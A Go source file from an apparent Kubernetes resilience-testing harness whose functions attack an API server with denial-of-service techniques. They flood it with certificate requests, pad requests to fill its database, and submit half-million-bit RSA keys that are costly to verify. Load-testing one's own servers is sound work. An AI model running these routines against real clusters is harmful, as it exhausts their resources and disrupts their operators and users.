// Copyright The kubembed Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/pem"
	"fmt"
	"math/big"
	"time"

	certificatesv1 "k8s.io/api/certificates/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

const mine = "example.com/mine" // a signer that does not exist

// posts creates certificate requests with a join file, a few at once.
func posts(ctx context.Context, t *target, s *stats, join, atOnce int, every, timeout time.Duration, request func(n int) (signer string, pem []byte)) {
	c, done := client(t.config(t.Join[join]))
	defer done()
	parallel(atOnce, func() {
		n := 0
		rounds(ctx, every, func() {
			ctx, cancel := context.WithTimeout(ctx, timeout)
			defer cancel()
			signer, request := request(n)
			n++
			s.tries.Add(1)
			_, err := c.CertificatesV1().CertificateSigningRequests().Create(ctx, newRequest("", signer, request), metav1.CreateOptions{})
			if err == nil || apierrors.ReasonForError(err) != metav1.StatusReasonUnknown {
				s.answered.Add(1)
			}
			s.note(string(apierrors.ReasonForError(err)))
		})
	})
}

// newRequest returns a certificate request with a name, or with a generated one.
func newRequest(name, signer string, request []byte) *certificatesv1.CertificateSigningRequest {
	usages := []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}
	if signer == certificatesv1.KubeletServingSignerName {
		usages[1] = certificatesv1.UsageServerAuth
	}
	meta := metav1.ObjectMeta{Name: name}
	if name == "" {
		meta.GenerateName = "flood-"
	}
	return &certificatesv1.CertificateSigningRequest{
		ObjectMeta: meta, Spec: certificatesv1.CertificateSigningRequestSpec{Request: request, SignerName: signer, Usages: usages},
	}
}

// requestFlood requests certificates from a signer that does not exist, and
// certificates for nodes that do not exist.
func requestFlood(ctx context.Context, t *target, s *stats) {
	request, _ := nodeRequest("flooded", nil)
	posts(ctx, t, s, joinFlood, 4, 20*time.Millisecond, 10*time.Second, func(n int) (string, []byte) {
		if n%20 == 0 {
			other, _ := nodeRequest(fmt.Sprintf("flooded-%s", lower()[:10]), nil)
			return certificatesv1.KubeAPIServerClientKubeletSignerName, other
		}
		return mine, request
	})
}

// largeRequests fills the database with padding after the end of a request.
func largeRequests(ctx context.Context, t *target, s *stats) {
	request, _ := nodeRequest("large", nil)
	request = append(request, bytes.Repeat([]byte{'\n'}, 1_300_000)...)
	posts(ctx, t, s, joinLarge, 4, 200*time.Millisecond, 10*time.Second, func(int) (string, []byte) { return mine, request })
}

// largeRSAKeys makes the server verify a signature with a key of half a million bits,
// and does not wait for the answer.
func largeRSAKeys(ctx context.Context, t *target, s *stats) {
	request := rsaRequest(64 << 10)
	posts(ctx, t, s, joinRSA, 2, time.Second, time.Second, func(int) (string, []byte) {
		return certificatesv1.KubeAPIServerClientKubeletSignerName, request
	})
}

// rsaRequest returns a request with a key of size bytes and an invalid signature.
func rsaRequest(size int) []byte {
	modulus, signature := make([]byte, size), make([]byte, size)
	_, _ = rand.Read(modulus)
	_, _ = rand.Read(signature)
	modulus[0] |= 0x80
	modulus[size-1] |= 1
	signature[0] &= 0x7f
	key, err := x509.MarshalPKIXPublicKey(&rsa.PublicKey{N: new(big.Int).SetBytes(modulus), E: 1<<31 - 1})
	if err != nil {
		panic(err)
	}
	name := marshal(nodeName("large-key").ToRDNSequence())
	info := marshal(struct {
		Version            int
		Subject, PublicKey asn1.RawValue
		Attributes         []asn1.RawValue `asn1:"tag:0"`
	}{0, asn1.RawValue{FullBytes: name}, asn1.RawValue{FullBytes: key}, nil})
	sha256WithRSA := asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 1, 11}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: marshal(struct {
		Info      asn1.RawValue
		Algorithm pkix.AlgorithmIdentifier
		Signature asn1.BitString
	}{
		asn1.RawValue{FullBytes: info}, pkix.AlgorithmIdentifier{Algorithm: sha256WithRSA, Parameters: asn1.NullRawValue},
		asn1.BitString{Bytes: signature, BitLength: size * 8},
	})})
}

func marshal(value any) []byte {
	data, err := asn1.Marshal(value)
	if err != nil {
		panic(err)
	}
	return data
}
